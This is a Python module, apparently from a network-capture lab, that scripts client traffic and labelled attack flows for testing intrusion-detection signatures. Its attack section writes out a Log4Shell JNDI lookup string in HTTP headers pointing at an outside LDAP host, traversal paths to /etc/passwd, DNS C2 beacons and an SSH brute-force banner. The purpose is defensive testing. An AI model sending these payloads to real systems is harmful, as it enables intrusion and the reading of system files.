"""Who talks to whom in a recording: everyday clients, attackers, and flows that are cut on purpose.

Every step is a real program in the client namespace. Short steps become whole flows; the others
are already running when the capture starts, or still running when it stops, or both: the half-flows
that every raw capture has and that a corpus must not keep.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from lab import netns_tools as net
from lab.addresses import (
    ATTACKERS,
    CLIENTS,
    CLIENTS_V6,
    CLOSED,
    DMZ_SSH,
    DMZ_WEB,
    DNS,
    MAIL,
    NAMES,
)
from lab.apps import Site

__all__ = ["Step", "long_steps", "short_steps"]

Part = Literal["whole", "begun-before", "unterminated", "spanning"]
_ORDER_SEED = 9_000_001  # the order of the short steps is the same in every recording

# Signature ids of profiles/demo.rules.
LOG4SHELL, TRAVERSAL, EICAR, DNS_C2, TLS_PHISH, MAIL_LEAK, SSH_BRUTE = range(9_000_001, 9_000_008)

_ECHO = Path(__file__).with_name("echo_client.py")
_BANNER = """
import socket, sys
with socket.create_connection((sys.argv[2], 22), 5, (sys.argv[1], 0)) as link:
    link.recv(256)
    link.sendall(b"SSH-2.0-libssh-bruteforce_0.1\\r\\n")
    link.recv(4096)
"""


@dataclass(frozen=True, slots=True)
class Step:
    """One program to run. `attack` is the signature due, if any; `ok` its good exit statuses."""

    application: str
    about: str
    source: str
    argv: tuple[str, ...]
    part: Part = "whole"
    attack: int | None = None
    ok: tuple[int, ...] = (0,)


def short_steps(site: Site) -> list[Step]:
    """The whole flows, in a mixed order that is the same every time."""
    steps = [
        *_web(),
        *_web_forms(site),
        *_tls(),
        *_dns(),
        *_ssh(site),
        *_mail(site),
        *_control(),
        *_attacks(site),
    ]
    random.Random(_ORDER_SEED).shuffle(steps)
    return [step for step in steps if ":" not in step.source or net.has_ipv6()]


def long_steps(site: Site) -> list[Step]:
    """Flows that the capture cuts: at its start, at its end, at both."""
    ticks = "for i in 1 2 3 4 5 6 7 8; do echo tick $i; sleep 0.5; done"
    endless = "while :; do date; sleep 0.4; done"
    news, shop = "http://www.news.example", "https://www.shop.example"
    return [
        _ssh_login(site, CLIENTS[0], ticks, "begun-before"),
        _curl(CLIENTS[1], f"{news}/index.html?n=[1-10]", "--rate", "3/s", part="begun-before"),
        _curl(CLIENTS[2], "http://files.partner.example/slow.bin", part="begun-before"),
        _curl(CLIENTS[3], f"{news}/style.css?n=[1-9999]", "--rate", "2/s", part="spanning"),
        _ssh_login(site, CLIENTS[4], endless, "unterminated"),
        _curl(CLIENTS[5], "http://files.partner.example/slow.bin", part="unterminated"),
        _curl(CLIENTS[0], f"{shop}/index.html?n=[1-9999]", "--rate", "2/s", part="unterminated"),
    ]


def _curl(
    source: str,
    url: str,
    *more: str,
    part: Part = "whole",
    attack: int | None = None,
    about: str = "",
) -> Step:
    """curl from one address; further URLs may be among `more` and reuse the connection."""
    scheme, rest = url.split("://", 1)
    host = rest.split("/", 1)[0]
    argv = ["curl", "-sS", "--interface", source, "--max-time", "120"]
    if scheme in ("http", "https") and host in NAMES:
        family = [address for address in NAMES[host] if (":" in address) == (":" in source)]
        address = f"[{family[0]}]" if ":" in family[0] else family[0]
        argv += ["--resolve", f"{host}:{443 if scheme == 'https' else 80}:{address}"]
    argv += ["-k"] if scheme == "https" else []
    urls = [url, *(word for word in more if word.startswith(f"{scheme}://"))]
    argv += [word for word in more if word not in urls]
    for each in urls:
        argv += ["-o", "/dev/null", each]
    return Step(
        application={"https": "tls"}.get(scheme, scheme),
        about=about or f"{len(urls)} × {url}",
        source=source,
        argv=tuple(argv),
        part=part,
        attack=attack,
    )


def _web() -> Iterator[Step]:
    """Pages of several virtual hosts, two or three to a connection, some over IPv6."""
    hosts = ("www.news.example", "www.shop.example", "cdn.news.example", "intranet.home.example")
    for number in range(10):
        base = f"http://{hosts[number % 4]}"
        pages = [f"{base}/index.html", f"{base}/style.css", f"{base}/logo.png"][: 1 + number % 3]
        yield _curl(CLIENTS[number % 6], *pages)
    for number, source in enumerate((*CLIENTS_V6, CLIENTS_V6[0])):
        base = f"http://{hosts[number % 3]}"
        yield _curl(source, f"{base}/news.html", f"{base}/style.css")
    yield _curl(CLIENTS[2], "http://www.shop.example/no-such-page")
    yield _curl(CLIENTS[4], "http://files.partner.example/bulk.bin", about="bulk download")


def _web_forms(site: Site) -> Iterator[Step]:
    form = ["--data", "name=anna&order=17&comment=two+of+the+blue+ones"]
    yield _curl(CLIENTS[0], "http://www.shop.example/form", *form)
    yield _curl(CLIENTS[3], "http://www.shop.example/form", *form)
    upload = ["--data-binary", f"@{site.report}"]
    yield _curl(CLIENTS[5], "http://files.partner.example/form", *upload, about="upload by POST")


def _tls() -> Iterator[Step]:
    old = ["--tls-max", "1.2"]
    yield _curl(CLIENTS[0], "https://www.shop.example/index.html", "https://www.shop.example/api")
    yield _curl(CLIENTS[1], "https://www.news.example/index.html", *old)
    yield _curl(CLIENTS[2], "https://www.shop.example/news.html", "--data", "basket=3")
    yield _curl(CLIENTS[3], "https://files.partner.example/logo.png", *old)
    yield _curl(CLIENTS_V6[1], "https://www.news.example/news.html")
    yield _curl(CLIENTS_V6[2], "https://www.shop.example/index.html", *old)


def _dig(source: str, name: str, kind: str, *more: str, attack: int | None = None) -> Step:
    server = DNS[":" in source]
    argv = ("dig", "+tries=1", "+time=3", "-b", source, f"@{server}", name, kind, *more)
    return Step("dns", f"{kind} {name} {' '.join(more)}".strip(), source, argv, attack=attack)


def _dns() -> Iterator[Step]:
    questions = [(name, kind) for name in list(NAMES)[:5] for kind in ("A", "AAAA")]
    questions += [("shop.example", "TXT"), ("partner.example", "MX"), ("nowhere.example", "A")]
    for number, (name, kind) in enumerate(questions):
        source = CLIENTS_V6[number % 3] if number % 4 == 3 else CLIENTS[number % 6]
        yield _dig(source, name, kind)
    yield _dig(CLIENTS[1], "www.shop.example", "A", "+tcp")
    yield _dig(CLIENTS[4], "big.example", "TXT", "+bufsize=1232")  # too long for UDP: asks over TCP


def _ssh_words(site: Site, source: str) -> list[str]:
    words = ["-F", "none", "-q", "-i", str(site.key), "-o", "BatchMode=yes"]
    words += ["-o", f"UserKnownHostsFile={site.known_hosts}", "-o", "StrictHostKeyChecking=yes"]
    return [*words, "-o", f"BindAddress={source}"]


def _ssh_login(site: Site, source: str, command: str, part: Part = "whole") -> Step:
    argv = ("ssh", *_ssh_words(site, source), f"root@{DMZ_SSH}", command)
    return Step("ssh", "a login that runs commands", source, argv, part)


def _ssh(site: Site) -> Iterator[Step]:
    yield _ssh_login(site, CLIENTS[5], "uname -a; uptime; ls -l /")
    copy = ("scp", *_ssh_words(site, CLIENTS[1]), str(site.report))
    target = f"root@{DMZ_SSH}:{site.directory / 'uploaded.txt'}"
    yield Step("ssh", "a file copied by scp", CLIENTS[1], (*copy, target))


def _send(site: Site, source: str, kind: str, attack: int | None = None) -> Step:
    people = ["--mail-from", "anna@home.example", "--mail-rcpt", "bert@partner.example"]
    file = ["--upload-file", str(site.mail(kind)), "--crlf"]
    return _curl(
        source, f"smtp://{MAIL}/home.example", *people, *file, attack=attack, about=f"{kind} mail"
    )


def _mail(site: Site) -> Iterator[Step]:
    yield _send(site, CLIENTS[0], "plain")
    yield _send(site, CLIENTS[3], "plain")


def _control() -> Iterator[Step]:
    """ICMP for its own sake, and ICMP errors that quote a UDP packet to a closed port."""
    for source, target in ((CLIENTS[2], "198.51.100.10"), (CLIENTS_V6[0], "2001:db8:100::10")):
        echo = (sys.executable, "-I", "-S", str(_ECHO), source, target, "3")
        yield Step("icmp", f"ping {target}", source, echo)
    for source in (CLIENTS[1], CLIENTS[5]):
        argv = ("dig", "+tries=1", "+time=1", "-b", source, f"@{CLOSED}", "www.shop.example")
        yield Step("udp", "UDP to a closed port", source, argv, ok=(0, 9))


def _attacks(site: Site) -> Iterator[Step]:
    """One flow an attack, and one alert a flow."""
    lookup = "${jndi:ldap://203.0.113.222:1389/a}"
    web = f"http://{DMZ_WEB}"
    for source, header in ((ATTACKERS[0], "X-Api-Version"), (ATTACKERS[1], "User-Agent")):
        yield _curl(
            source, f"{web}/index.html", "-H", f"{header}: {lookup}", attack=LOG4SHELL,
            about=f"Log4Shell in {header}",
        )  # fmt: skip
    for source, path in (
        (ATTACKERS[2], "/static/../../../../etc/passwd"),
        (ATTACKERS[0], "/download/../../../../../etc/passwd"),
    ):
        yield _curl(
            source, f"{web}{path}", "--path-as-is", attack=TRAVERSAL, about="directory traversal"
        )
    for source in (CLIENTS[3], CLIENTS_V6[1]):
        url = "http://files.partner.example/invoice.com"
        yield _curl(source, url, attack=EICAR, about="EICAR download")
    yield _dig(CLIENTS[2], "beacon.c2.malware-demo.example", "A", attack=DNS_C2)
    yield _dig(CLIENTS[5], "k3yx.c2.malware-demo.example", "TXT", attack=DNS_C2)
    for source in (CLIENTS[1], CLIENTS[4]):
        url = "https://login.phish-demo.example/index.html"
        yield _curl(source, url, attack=TLS_PHISH, about="TLS to a phishing site")
    yield _send(site, CLIENTS[2], "confidential", attack=MAIL_LEAK)
    banner = (sys.executable, "-I", "-S", "-c", _BANNER, ATTACKERS[2], DMZ_SSH)
    yield Step("ssh", "a brute-force tool's banner", ATTACKERS[2], banner, attack=SSH_BRUTE)
